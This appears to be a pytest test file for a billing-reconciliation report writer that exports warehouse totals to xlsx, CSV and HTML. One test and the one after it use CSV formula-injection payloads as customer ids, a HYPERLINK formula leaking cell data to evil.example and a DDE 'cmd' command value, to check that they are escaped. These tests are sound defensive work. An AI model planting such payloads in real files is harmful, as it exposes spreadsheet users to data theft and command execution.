"""The report files read back (openpyxl, csv, HTML text) show exactly the warehouse's numbers."""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from metering import warehouse
from metering.reports import default_folder, write_report

from recon_fixture import MONTH, NOW

# hand-computed from conftest.ROWS
USD = {"rated_minor": 17200, "invoiced_minor": 16276, "difference_minor": -924,
       "money_at_risk_minor": 1115, "unexplained_minor": 115, "rows": 6, "clean_rows": 2, "customers": 5}


def _warehouse_totals(path: Path) -> dict[str, dict[str, int]]:
    """The same headline numbers, computed independently in SQL on the warehouse."""
    with warehouse.open_warehouse(path, read_only=True) as con:
        rows = con.execute(
            """
            SELECT currency, count(DISTINCT customer_id), count(*), sum(our_amount_minor), sum(stripe_amount_minor),
                   sum(abs(amount_diff_minor)) FILTER (WHERE status NOT IN ('matched', 'within_tolerance', 'pending')),
                   sum(abs(amount_diff_minor)) FILTER (WHERE NOT explained),
                   count(*) FILTER (WHERE status IN ('matched', 'within_tolerance'))
            FROM usage_reconciliation WHERE billing_month = ? GROUP BY currency
            """,
            [MONTH],
        ).fetchall()
    return {
        cur: {"customers": c, "rows": n, "rated_minor": r, "invoiced_minor": i, "difference_minor": i - r - 0,
              "money_at_risk_minor": risk or 0, "unexplained_minor": unexp or 0, "clean_rows": clean}
        for cur, c, n, r, i, risk, unexp, clean in rows
    }


def test_default_folder_is_data_reports_period(reconciled_warehouse, isolated_env):
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        files = write_report(con, MONTH, generated_at=NOW)
    assert files.folder == isolated_env / "reports" / "2026-10" == default_folder(MONTH)
    assert sorted(p.name for p in files.folder.iterdir()) == [
        "discrepancies.csv", "dunning.csv", "dunning_invoices.csv", "invoices.csv", "lines.csv", "report.html",
        "report.xlsx", "summary.csv"]


def test_files_equal_the_warehouse(reconciled_warehouse, tmp_path):
    expected = _warehouse_totals(reconciled_warehouse)
    assert {k: expected["usd"][k] for k in USD} == USD   # the SQL agrees with the hand calculation
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)

    # spreadsheet
    book = openpyxl.load_workbook(files.xlsx, read_only=True)
    assert book.sheetnames == ["summary", "lines", "discrepancies", "invoices", "dunning", "dunning_invoices"]
    summary = {(m, c): v for m, c, v in list(book["summary"].iter_rows(values_only=True))[1:]}
    for cur, nums in expected.items():
        for metric, value in nums.items():   # numbers, not text cells, so a spreadsheet can add them
            assert summary[(metric, cur)] == value and isinstance(summary[(metric, cur)], int), (metric, cur)
    assert summary[("match_rate_percent", "usd")] == "33.3"
    assert summary[("match_rate_percent", "jpy")] == "100.0"
    assert summary[("tolerance", None)] == "jpy: 1 minor unit(s) per line; usd: 1 minor unit(s) per line"
    lines = list(book["lines"].iter_rows(values_only=True))
    header = lines[0]
    assert len(lines) - 1 == 7
    diff_col = header.index("amount_diff_minor")
    assert sum(r[diff_col] for r in lines[1:]) == -924  # integers, exact
    disc = list(book["discrepancies"].iter_rows(values_only=True))
    h = disc[0]
    assert [(r[h.index("customer_id")], r[h.index("status")], r[h.index("amount_diff_minor")]) for r in disc[1:]] == [
        ("cus_e", "late_after_finalization", -1000),
        ("cus_b", "amount_mismatch", 75),
        ("cus_c", "not_pushed", -20),
        ("cus_d", "extra_in_stripe", 20),
    ]
    qty_col = h.index("our_quantity")
    assert disc[1][qty_col] == "12"  # exact decimal text, trailing zeros dropped

    # dunning: the finance summary of dunning_state, equal to the warehouse's amounts
    with warehouse.open_warehouse(reconciled_warehouse, read_only=True) as con:
        at_risk = con.execute("SELECT sum(amount_remaining) FROM dunning_state WHERE state = 'in_dunning'").fetchone()[0]
        recovered = con.execute("SELECT sum(amount_paid) FROM dunning_state WHERE state = 'recovered'").fetchone()[0]
    assert (at_risk, recovered) == (280, 375)
    dun = list(book["dunning"].iter_rows(values_only=True))
    dh = dun[0]
    by_cat = {(r[dh.index("category")], r[dh.index("currency")]): r[dh.index("amount_minor")] for r in dun[1:]}
    assert by_cat[("at_risk", "usd")] == at_risk and by_cat[("recovered", "usd")] == recovered
    assert summary[("dunning_at_risk_minor", "usd")] == 280
    assert summary[("dunning_invoices_in_dunning", None)] == 1
    assert len(list(book["dunning_invoices"].iter_rows())) == 3

    # CSV equals the spreadsheet cell for cell (read as text: the spreadsheet's numbers are numbers)
    with open(files.folder / "summary.csv", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["metric", "currency", "value"]
    assert {(m, c): v for m, c, v in rows[1:]} == {(m, c or ""): str(v) for (m, c), v in summary.items()}
    with open(files.folder / "discrepancies.csv", newline="") as fh:
        csv_disc = list(csv.reader(fh))
    assert [r[h.index("amount_diff_minor")] for r in csv_disc[1:]] == ["-1000", "75", "-20", "20"]

    # HTML: self-contained, with the totals
    html = files.html.read_text()
    assert "<script" not in html.lower() and "http://" not in html.replace("http://www.w3.org/2000/svg", "")
    assert "https://" not in html and "<link" not in html.lower()
    assert html.count("<svg") == 3  # usd + jpy customer charts, categories chart
    text = re.sub(r"<[^>]+>", " ", html)
    for phrase in ("172.00 USD", "162.76 USD", "-9.24 USD", "11.15 USD", "1.15 USD", "33.3%",
                   "500 JPY", "100.0%", "usd: 1 minor unit(s) per line", "at_risk", "2.80 USD", "3.75 USD"):
        assert phrase in text, phrase
    # discrepancies appear largest first
    section = html.split("Discrepancies (4)")[1].split("<h2>")[0]
    assert [section.index(c) for c in ("cus_e", "cus_b", "cus_c", "cus_d")] == sorted(
        section.index(c) for c in ("cus_e", "cus_b", "cus_c", "cus_d"))


def test_report_is_rewritten_in_place(reconciled_warehouse, tmp_path):
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        first = write_report(con, MONTH, tmp_path, generated_at=NOW)
        a = first.html.read_bytes()
        second = write_report(con, MONTH, tmp_path, generated_at=NOW)
    assert second.html.read_bytes() == a
    assert not list(tmp_path.glob(".*.tmp"))


@pytest.mark.parametrize("minor,cur,text", [(1234, "usd", "12.34 USD"), (-5, "usd", "-0.05 USD"),
                                            (1234567, "jpy", "1,234,567 JPY"), (0, "eur", "0.00 EUR")])
def test_money_format(minor, cur, text):
    from metering.reports.money import fmt_money

    assert fmt_money(minor, cur) == text


from decimal import Decimal  # noqa: E402

from hypothesis import given  # noqa: E402
from hypothesis import strategies as st  # noqa: E402


@given(minor=st.integers(min_value=-(10**15), max_value=10**15), cur=st.sampled_from(["usd", "eur", "jpy", "krw"]))
def test_money_text_is_exact(minor, cur):
    """The displayed amount parses back to exactly the integer minor units (no float on the way)."""
    from metering.reports.money import fmt_money, minor_digits

    number, code = fmt_money(minor, cur).split(" ")
    assert code == cur.upper()
    assert Decimal(number.replace(",", "")).scaleb(minor_digits(cur)) == minor


def test_the_reports_verdict_is_the_blocking_checks(reconciled_warehouse, tmp_path):
    """An invoice difference no usage row carries (a $10.00 flat fee Stripe charged on cus_a's
    invoice) fails the blocking check: the report counts it as unexplained too, and says FAILED
    (it used to count the usage rows only: 1.15 USD, "passed" at a threshold of 1.15)."""
    from metering.reconcile.settings import ReconcileSettings

    with warehouse.open_warehouse(reconciled_warehouse) as con:
        con.execute("UPDATE invoice_reconciliation SET stripe_total_minor = stripe_total_minor + 1000, "
                    "amount_diff_minor = amount_diff_minor + 1000, status = 'amount_mismatch' "
                    "WHERE customer_id = 'cus_a'")
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW,
                             settings=ReconcileSettings(max_unexplained_minor=115))
    book = openpyxl.load_workbook(files.xlsx, read_only=True)
    summary = {(m, c): v for m, c, v in list(book["summary"].iter_rows(values_only=True))[1:]}
    assert summary[("unexplained_minor", "usd")] == 115 + 1000
    html = files.html.read_text()
    assert re.findall(r"Blocking check for USD: [^<]*", html) == ["Blocking check for USD: FAILED (unexplained 11.15 USD)."]


def test_a_report_written_later_judges_by_the_settings_the_rows_were_reconciled_with(isolated_env, tmp_path,
                                                                                      monkeypatch):
    """The demo reconciles with a threshold of 10^15 (passed); `metering report` run afterwards judged the
    same rows by the writer's environment (threshold 0): FAILED, and it printed settings the check never
    used (audit). The report reads the settings the month's reconciliation stored."""
    import sys

    from metering.reconcile.run import reconcile_period
    from metering.reconcile.settings import ReconcileSettings
    from metering.rules.meters import load_meters

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "reconcile"))   # the reconcile tests' scenario
    from recon_scenario import MONTH as SCENARIO_MONTH, PULLED, write_scenario

    with warehouse.open_warehouse() as con:
        write_scenario(con)
        reconcile_period(con, SCENARIO_MONTH, meters=load_meters(),
                         settings=ReconcileSettings(max_unexplained_minor=10**15, settle_seconds=0), now=PULLED)
        monkeypatch.setenv("METERING_RECON_MAX_UNEXPLAINED_MINOR", "0")
        files = write_report(con, SCENARIO_MONTH, tmp_path / "out", generated_at=NOW)
    html = files.html.read_text()
    assert re.findall(r"Blocking check for USD: [^<(]*", html) == ["Blocking check for USD: passed "]
    summary = dict(((m, c), v) for m, c, v in list(openpyxl.load_workbook(files.xlsx, read_only=True)["summary"]
                                                      .iter_rows(values_only=True))[1:])
    assert (summary[("max_unexplained_minor", None)], summary[("settle_seconds", None)]) == (10**15, 0)


def test_the_generation_time_is_shown_in_utc(reconciled_warehouse, tmp_path):
    """A time given in another zone was printed as if it were UTC (its wall time with a Z)."""
    tokyo = dt.timezone(dt.timedelta(hours=9))
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW.astimezone(tokyo))
    assert NOW.strftime("Generated %Y-%m-%d %H:%M:%S UTC") in files.html.read_text()


@pytest.mark.parametrize("currency, minor, text", [("kwd", 1234, "1.234 KWD"), ("jpy", 1234, "1,234 JPY")])
def test_the_report_and_dunning_agree_on_a_currencys_digits(currency, minor, text):
    """Kuwaiti dinar has three decimal places: the report showed 12.34 KWD where dunning wrote 1.234 (audit)."""
    from metering.dunning.money import format_minor
    from metering.reports.money import fmt_money

    assert fmt_money(minor, currency) == text
    assert format_minor(minor, currency) == text.split(" ")[0].replace(",", "")


def _items(con, customer: str, not_in_stripe: int, items: int, pending: int) -> None:
    """`customer`'s period gains charges Stripe cannot price, `items` of them on Stripe's invoice as our
    invoice items (Stripe's total grows by as much) and `pending` in our items Stripe holds pending."""
    con.execute("""UPDATE invoice_reconciliation SET our_total_minor = our_total_minor + ?,
                   stripe_total_minor = stripe_total_minor + ?, not_in_stripe_minor = ?, engine_items_minor = ?,
                   engine_items_pending_minor = ?, unbilled_minor = ? WHERE customer_id = ?""",
                [not_in_stripe, items, not_in_stripe, items, pending, not_in_stripe - items - pending, customer])


def test_charges_stripe_cannot_price_and_where_they_stand(reconciled_warehouse, tmp_path):
    """cus_a: a 4000 minimum billed as our invoice item on its invoice; cus_b: 1500, of which 500 in an item
    pending at Stripe and 1000 unbilled. Per currency: 55.00 USD Stripe cannot price, 40.00 on Stripe's
    invoices, 5.00 pending, 10.00 unbilled (red, with the command that bills it); JPY has none."""
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        _items(con, "cus_a", 4000, 4000, 0)
        _items(con, "cus_b", 1500, 0, 500)
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    book = openpyxl.load_workbook(files.xlsx, read_only=True)
    summary = {(m, c): v for m, c, v in list(book["summary"].iter_rows(values_only=True))[1:]}
    got = {m: (summary[(m, "usd")], summary[(m, "jpy")])
           for m in ("not_in_stripe_minor", "engine_items_minor", "engine_items_pending_minor", "unbilled_minor")}
    assert got == {"not_in_stripe_minor": (5500, 0), "engine_items_minor": (4000, 0),
                   "engine_items_pending_minor": (500, 0), "unbilled_minor": (1000, 0)}
    invoices = list(book["invoices"].iter_rows(values_only=True))
    h = invoices[0]
    assert {r[h.index("customer_id")]: tuple(r[h.index(c)] for c in ("engine_items_minor", "engine_items_pending_minor",
                                                                      "unbilled_minor"))
            for r in invoices[1:] if r[h.index("customer_id")] in ("cus_a", "cus_b")} == {
        "cus_a": (4000, 0, 0), "cus_b": (0, 500, 1000)}
    html = files.html.read_text()
    cards = dict(re.findall(r'<div class="card" id="([a-z-]+-usd)"><div class="k">[^<]*</div>'
                            r'<div class="v">([^<]*)<', html))
    keys = ("not-in-stripe-usd", "engine-items-usd", "engine-items-pending-usd", "unbilled-usd")
    assert {k: cards[k] for k in keys} == {
        "not-in-stripe-usd": "55.00 USD", "engine-items-usd": "40.00 USD", "engine-items-pending-usd": "5.00 USD",
        "unbilled-usd": "10.00 USD"}
    assert "Not billed by Stripe" not in html and "billed by no one" not in html
    notes = re.findall(r'<p class="bad" id="unbilled-note-(\w+)">(.*?)</p>', html)
    assert [cur for cur, _ in notes] == ["usd"]
    assert notes[0][1].startswith("10.00 USD of the charges Stripe cannot price")
    assert "<code>metering stripe invoice-items --period 2026-10</code>" in notes[0][1]


def test_no_red_paragraph_when_every_charge_stripe_cannot_price_is_billed(reconciled_warehouse, tmp_path):
    """cus_a's 4000 on its invoice, cus_b's 1500 pending at Stripe: nothing unbilled, nothing in red."""
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        _items(con, "cus_a", 4000, 4000, 0)
        _items(con, "cus_b", 1500, 0, 1500)
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    assert files.data.totals[1].currency == "usd"
    usd = files.data.totals[1]
    assert (usd.not_in_stripe_minor, usd.engine_items_minor, usd.engine_items_pending_minor, usd.unbilled_minor) == (
        5500, 4000, 1500, 0)
    assert usd.credit_due_minor == 0
    assert "unbilled-note-" not in files.html.read_text() and "credit-due-note-" not in files.html.read_text()


def test_unbilled_of_a_period_not_ended_awaits_its_end(reconciled_warehouse, tmp_path):
    """cus_a's period has not ended (pending): its 40.00 minimum cannot be billed yet, and is "awaiting
    the period's end"; cus_b's ended period has 15.00 Stripe cannot price, 5.00 of it pending at Stripe:
    10.00 unbilled, the only red paragraph's amount. Both once made 50.00 USD "not billed"."""
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        _items(con, "cus_a", 4000, 0, 0)
        _items(con, "cus_b", 1500, 0, 500)
        con.execute("UPDATE invoice_reconciliation SET status = 'pending' WHERE customer_id = 'cus_a'")
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    usd = files.data.totals[1]
    assert (usd.currency, usd.not_in_stripe_minor, usd.unbilled_minor, usd.unbilled_pending_minor) == (
        "usd", 5500, 1000, 4000)
    with open(files.folder / "summary.csv", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r for r in rows if r[0].startswith("unbilled")] == [
        ["unbilled_minor", "jpy", "0"], ["unbilled_pending_minor", "jpy", "0"],
        ["unbilled_minor", "usd", "1000"], ["unbilled_pending_minor", "usd", "4000"]]
    html = files.html.read_text()
    values = dict(re.findall(r'<div class="card" id="([a-z-]+-usd)"><div class="k">[^<]*</div>'
                             r'<div class="v">([^<]*)<', html))
    assert (values["unbilled-usd"], values["unbilled-pending-usd"]) == ("10.00 USD", "40.00 USD")
    notes = re.findall(r'<p class="bad" id="unbilled-note-(\w+)">(.*?)</p>', html)
    assert [cur for cur, _ in notes] == ["usd"]
    assert notes[0][1].startswith("10.00 USD of the charges Stripe cannot price")


def test_no_red_paragraph_when_only_periods_not_ended_are_unbilled(reconciled_warehouse, tmp_path):
    """cus_a's 40.00 minimum on its pending period is all there is: awaiting the period's end, not red."""
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        _items(con, "cus_a", 4000, 0, 0)
        con.execute("UPDATE invoice_reconciliation SET status = 'pending' WHERE customer_id = 'cus_a'")
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    usd = files.data.totals[1]
    assert (usd.unbilled_minor, usd.unbilled_pending_minor) == (0, 4000)
    assert "unbilled-note-" not in files.html.read_text()


def test_unbilled_and_credit_due_are_not_netted_across_customers(reconciled_warehouse, tmp_path):
    """The auditor's case: one customer's minimum never billed (+4000, cus_b here), another's items 4000
    beyond its charges (-4000: re-rated lower since billed, cus_d here), cus_a's 50 unbilled. Summed with
    signs that is 0.50 USD unbilled; in truth 40.50 USD is unbilled and, separately, 40.00 USD of credit
    is due: two cards, two red paragraphs."""
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        _items(con, "cus_a", 50, 0, 0)
        _items(con, "cus_b", 4000, 0, 0)
        _items(con, "cus_d", 4000, 8000, 0)
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    usd = files.data.totals[1]
    assert (usd.currency, usd.not_in_stripe_minor, usd.engine_items_minor, usd.unbilled_minor,
            usd.credit_due_minor) == ("usd", 8050, 8000, 4050, 4000)
    book = openpyxl.load_workbook(files.xlsx, read_only=True)
    summary = {(m, c): v for m, c, v in list(book["summary"].iter_rows(values_only=True))[1:]}
    assert {m: (summary[(m, "usd")], summary[(m, "jpy")]) for m in ("unbilled_minor", "credit_due_minor")} == {
        "unbilled_minor": (4050, 0), "credit_due_minor": (4000, 0)}
    with open(files.folder / "summary.csv", newline="") as fh:
        assert ["credit_due_minor", "usd", "4000"] in list(csv.reader(fh))
    html = files.html.read_text()
    cards = dict(re.findall(r'<div class="card" id="([a-z-]+-usd)"><div class="k">([^<]*)</div>', html))
    assert cards["credit-due-usd"] == "our items beyond it (credit due)"
    values = dict(re.findall(r'<div class="card" id="([a-z-]+-usd)"><div class="k">[^<]*</div>'
                             r'<div class="v">([^<]*)<', html))
    assert (values["unbilled-usd"], values["credit-due-usd"]) == ("40.50 USD", "40.00 USD")
    notes = re.findall(r'<p class="bad" id="(unbilled|credit-due)-note-(\w+)">(.*?)</p>', html)
    assert [(kind, cur) for kind, cur, _ in notes] == [("unbilled", "usd"), ("credit-due", "usd")]
    assert notes[0][2].startswith("40.50 USD of the charges Stripe cannot price")
    assert "exceed the charges Stripe cannot price by 40.00 USD" in notes[1][2]
    assert "<code>metering stripe invoice-items --period 2026-10</code> to credit it" in notes[1][2]


def test_an_invoice_row_without_usage_rows_is_counted_and_its_customer_too(reconciled_warehouse, tmp_path):
    """cus_z has only a flat fee, and Stripe never invoiced it: its invoice row (not_invoiced, 49.00 USD
    unexplained) was in no status count and its customer in no customer count."""
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        con.execute("""INSERT INTO invoice_reconciliation SELECT * REPLACE ('cus_z' AS customer_id,
                       4900 AS our_total_minor, NULL::BIGINT AS stripe_total_minor, -4900 AS amount_diff_minor,
                       'not_invoiced' AS status) FROM invoice_reconciliation WHERE customer_id = 'cus_a'""")
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    book = openpyxl.load_workbook(files.xlsx, read_only=True)
    summary = {(m, c): v for m, c, v in list(book["summary"].iter_rows(values_only=True))[1:]}
    assert summary[("invoice_rows_not_invoiced", None)] == 1
    counts = files.data.invoice_status_counts()
    assert counts["not_invoiced"] == 1 and sum(counts.values()) == files.data.invoices.height
    usd = next(t for t in files.data.totals if t.currency == "usd")
    with_usage = set(files.data.lines.filter(pl.col("currency") == "usd")["customer_id"])
    assert "cus_z" not in with_usage and usd.customers == len(with_usage) + 1
    assert "not_invoiced 1" in files.html.read_text()


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(isolated_env, tmp_path):
    """Customer ids like '=HYPERLINK(...)' went into the CSVs verbatim: a spreadsheet opening them runs
    the formula. They get a leading apostrophe now; numbers, negative ones too, are left alone."""
    from recon_fixture import reconciled_frames

    from metering.warehouse import replace_rows

    evil = {"cus_b": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "cus_c": "+1+cmd|' /C calc'!A0",
            "cus_d": "@SUM(1+1)", "cus_e": "-2+3"}
    usage, invoices = (f.with_columns(pl.col("customer_id").replace(evil)) for f in reconciled_frames())
    with warehouse.open_warehouse(tmp_path / "w.duckdb") as con:
        replace_rows(con, "usage_reconciliation", "billing_month = ?", [MONTH], usage)
        replace_rows(con, "invoice_reconciliation", "billing_month = ?", [MONTH], invoices)
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    expected = ["cus_a", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0",
                "'@SUM(1+1)", "'-2+3", "cus_j"]
    for name in ("lines", "invoices", "discrepancies"):
        with open(files.folder / f"{name}.csv", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert sorted({r["customer_id"] for r in rows}) == sorted(
            c for c in expected if name != "discrepancies" or c not in ("cus_a", "cus_j")), name
    with open(files.folder / "discrepancies.csv", newline="") as fh:
        disc = list(csv.DictReader(fh))
    assert [(r["amount_diff_minor"], r["quantity_diff"]) for r in disc] == [
        ("-1000", "-1"), ("75", "0"), ("-20", "-100"), ("20", "100")]
    with open(files.folder / "summary.csv", newline="") as fh:
        assert ["difference_minor", "usd", "-924"] in list(csv.reader(fh))
    # the spreadsheet keeps the ids as they are: it writes no formulas at all
    book = openpyxl.load_workbook(files.xlsx, read_only=True)
    lines = list(book["lines"].iter_rows(values_only=True))
    assert {r[lines[0].index("customer_id")] for r in lines[1:]} == {"cus_a", *evil.values(), "cus_j"}


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+cmd", "'+cmd"), ("-1.25", "-1.25"), ("-12", "-12"), ("-", "'-"),
    ("-1.", "'-1."), ("-cus", "'-cus"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("cus_a", "cus_a"), ("", ""), ("2026-10-01", "2026-10-01"), (-5, -5), (7, 7)])
def test_csv_cell_escapes_formula_text_but_not_numbers(cell, written):
    from metering.reports.writers import _csv_cell

    assert _csv_cell(cell) == written


def test_xlsx_is_byte_identical_for_the_same_generated_at(reconciled_warehouse, tmp_path):
    """core.xml's created/modified were the wall clock; now generated_at, and the zip entries' fixed stamp."""
    import zipfile

    with warehouse.open_warehouse(reconciled_warehouse) as con:
        first = write_report(con, MONTH, tmp_path / "a", generated_at=NOW)
        second = write_report(con, MONTH, tmp_path / "b", generated_at=NOW)
    assert first.xlsx.read_bytes() == second.xlsx.read_bytes()
    with zipfile.ZipFile(first.xlsx) as z:
        core = z.read("docProps/core.xml").decode()
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert '<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-02T09:30:00Z</dcterms:created>' in core
    assert '<dcterms:modified xsi:type="dcterms:W3CDTF">2026-11-02T09:30:00Z</dcterms:modified>' in core


def test_match_rate_of_a_currency_without_usage_rows_is_na_everywhere(reconciled_warehouse, tmp_path):
    """cus_f pays a flat fee in EUR: an invoice row, no usage row. Its match rate was "100.0%"."""
    with warehouse.open_warehouse(reconciled_warehouse) as con:
        con.execute("""INSERT INTO invoice_reconciliation SELECT * REPLACE ('cus_f' AS customer_id, 'eur' AS currency)
                       FROM invoice_reconciliation WHERE customer_id = 'cus_j'""")
        files = write_report(con, MONTH, tmp_path / "out", generated_at=NOW)
    eur = next(t for t in files.data.totals if t.currency == "eur")
    assert (eur.rows, eur.match_rate, eur.match_rate_text("%")) == (0, None, "n/a")
    with open(files.folder / "summary.csv", newline="") as fh:
        rates = [r for r in csv.reader(fh) if r[0] == "match_rate_percent"]
    assert rates == [["match_rate_percent", "eur", "n/a"], ["match_rate_percent", "jpy", "100.0"],
                     ["match_rate_percent", "usd", "33.3"]]
    book = openpyxl.load_workbook(files.xlsx, read_only=True)
    summary = {(m, c): v for m, c, v in list(book["summary"].iter_rows(values_only=True))[1:]}
    assert (summary[("match_rate_percent", "eur")], summary[("match_rate_percent", "usd")]) == ("n/a", "33.3")
    cards = dict(re.findall(r'<div class="card" id="(match-rate-\w+)"><div class="k">[^<]*</div>'
                            r'<div class="v">([^<]*)<', files.html.read_text()))
    assert cards == {"match-rate-eur": "n/a", "match-rate-jpy": "100.0%", "match-rate-usd": "33.3%"}
